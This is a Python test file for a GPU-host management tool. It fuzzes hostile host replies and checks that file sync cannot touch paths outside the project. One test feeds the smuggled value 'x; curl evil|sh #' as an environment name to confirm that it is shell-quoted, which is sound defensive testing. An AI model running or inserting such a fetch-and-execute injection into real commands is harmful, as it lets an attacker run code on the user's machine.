"""A host that answers anything: words of ours or a result, never a traceback, and nothing outside changes."""

import io
import json
import random
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from gpuinfra.features.containers import docker_args
from gpuinfra.features.gpu import metrics, metrics_text
from gpuinfra.features.gpu.benchmark import GpuTest, gpu_test
from gpuinfra.features.jobs import job as jobs
from gpuinfra.features.jobs import jobs as actions
from gpuinfra.features.sync.conversation import Conversation, SyncRefused
from gpuinfra.features.sync.exchange import exchange
from gpuinfra.features.sync.terms import Terms
from gpuinfra.features.web import jupyter
from gpuinfra.ground import boot_status
from gpuinfra.ground.errors import GpuInfraError
from gpuinfra.ground.printable import printable
from gpuinfra.ground.world import World
from tests import samples
from tests.fakes.host import FakeSshClient, fake_world
from tests.fakes.jobs import JOB, LIVE, FakeHostClient
from tests.fakes.world import RECORDED, RUNNING
from tests.ground.test_boot_status import BOOT_ID, STATUS, look
from tests.mutations import changed

ROUNDS = 300
GPU = {"index": 0, "name": "T4", "utilization_percent": 9, "memory_used_mib": 5, "memory_total_mib": 9}
ALIVE = {**LIVE, "jobs": [JOB, {**JOB, "exit_code": 3}], "gpus": [GPU], "terminals": ["bash"]}
DEVICE = {"name": "T4", "fp32_tflops": 1.5, "fp16_tflops": 2, "to_device_gb_s": 3.0, "from_device_gb_s": 4.0}
TESTED = {"torch": "2.9", "cuda": True, "devices": [DEVICE], "problem": ""}
DOCKER = {
    **dict.fromkeys(("docker", "driver", "user", "home", "accounts", "container_home"), "/x"),
    "error": "", "build_context": "/x", "sudo": False, "toolkit": True, "uid": 1, "gid": 1,
    "shared_memory": 1,
    "notes": ["moved"],
}  # fmt: skip
LAB = {"state": "running", "started": True, "port": 40001, "token": "0123456789abcdef01234567"}
MISSING = {"error": "no-jupyterlab", "detail": "gpu"}


def world(directory: Path, *replies: Any) -> World:
    """Return a world whose host answers this; its boot is done."""
    ssh = FakeSshClient(answers_at=[RUNNING.public_ip], looks=[look(state="done", rc=0)])
    ssh.pin(samples.host(), ["ssh-ed25519 AAAA"])
    return fake_world(directory, records=(RECORDED,), ssh=ssh, host=FakeHostClient(*replies))


def shown_jobs(directory: Path, reply: Any) -> str:
    """Return what `job list` shows."""
    return jobs.jobs_table(actions.listed(world(directory, [reply])), datetime.now(UTC))


def waited(directory: Path, reply: Any) -> str:
    """Return what `job wait` shows of a job that has ended, if it has."""
    job = actions.stop(world(directory, reply), "abcd")
    return f"{job.text()} {job.code_to_pass_on}"


def attached(directory: Path, reply: Any) -> str:
    """Return the exit code of `job attach`."""
    return str(actions.attach(world(directory, reply), "abcd", tty=True))


def live(directory: Path, reply: Any) -> str:
    """Return what `status --live` shows, and what runs there."""
    seen = metrics.for_status(world(directory, reply), samples.host(), asked=True)
    return metrics_text.lines(seen) + str(metrics.running(world(directory, reply), samples.host()))


def measured(directory: Path, reply: Any) -> str:
    """Return what `gpu test` shows."""
    found: GpuTest = gpu_test(world(directory, reply, ALIVE))
    return found.text()


def docker(_: Path, reply: Any) -> str:
    """Return what is read of docker."""
    return str(docker_args.parse(json.dumps(reply)))


def lab(directory: Path, reply: Any) -> str:
    """Return JupyterLab's address."""
    return jupyter.url(jupyter.start(world(directory, json.dumps(reply))), 8888)


def boot(_: Path, reply: Any) -> str:
    """Return what is read of a boot."""
    text = "\n".join([json.dumps(reply), BOOT_ID, "start", "2026-11-23T06:01:00Z", "begun 7"])
    return str((boot_status.parse(text, gpus=4), boot_status.parse_apply(text)))


@pytest.mark.parametrize(
    ("command", "reply"),
    [
        (shown_jobs, JOB),
        (waited, {**JOB, "state": "failed", "exit_code": 3}),
        (attached, {**JOB, "tty": True}),
        (live, ALIVE),
        (measured, TESTED),
        (docker, DOCKER),
        (lab, LAB),
        (lab, MISSING),
        (boot, {**STATUS, "gpus": 4}),
    ],
)
def test_any_answer_is_a_result_or_an_error_of_ours(
    command: Callable[[Path, Any], str], reply: Any, tmp_path: Path
) -> None:
    """Whatever is exchanged in it; and what is said of it can be printed."""
    by_chance, text = random.Random(33), json.dumps(reply)
    ends = {"result": 0, "error": 0}
    for _ in range(ROUNDS):
        try:
            said = command(tmp_path, changed(text, by_chance))
            ends["result"] += 1
        except GpuInfraError as error:
            said = f"{error.message}{error.hint}"
            ends["error"] += 1
        printable(said).encode()
    assert max(ends.values()) < ROUNDS or reply is MISSING or command is boot, ends


def test_an_environments_name_is_quoted_in_the_command_to_type(tmp_path: Path) -> None:
    """The host names it; the user types it here."""
    with pytest.raises(GpuInfraError) as caught:
        lab(tmp_path, {**MISSING, "detail": "x; curl evil|sh #"})
    assert " -n 'x; curl evil|sh #' " in caught.value.hint


@pytest.mark.parametrize("mode", ["both", "down"])
def test_a_sync_with_a_host_that_answers_anything(mode: str, tmp_path: Path) -> None:
    """It is refused, or done; no traceback, and what lies outside of the project is as it was."""
    by_chance = random.Random(33)
    (tmp_path / "victim").write_text("mine")
    scanned = {
        "diff": {"a": ["f", 3, 0o644, 1, 2, ""], "d": ["d"], "d/l": ["l", "../a"], "d/gone": None},
        "known": True, "empty": False, "racy": ["a"], "told": ["x"],
    }  # fmt: skip
    placed = {"failed": {"a": "changed meanwhile"}, "hashes": {"a": "00"}}
    refused = 0
    for number in range(ROUNDS):
        root = tmp_path / "projects" / str(number)
        root.mkdir(parents=True)
        (root / "mine.py").write_text("mine")
        replies = [changed(json.dumps(one), by_chance) for one in (scanned, placed)]
        lines = "".join(f"{json.dumps(reply)}\n" for reply in replies)
        talk = Conversation(io.BytesIO(lines.encode()), io.BytesIO())
        try:
            exchange(str(root), talk, NoMover(), Terms(mode=mode, join=True))
        except (SyncRefused, EOFError):
            refused += 1
        assert (root / "mine.py").read_text() == "mine"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["projects", "victim"]
    assert (tmp_path / "victim").read_text() == "mine"
    assert 0 < refused < ROUNDS


class NoMover:
    """Moves nothing: what was to come is not there."""

    def move(self, up: bool, paths: list[str]) -> dict[str, int]:
        """Move nothing."""
        return {}

    def pack(self, paths: list[str]) -> bool:
        """Pack nothing."""
        return True
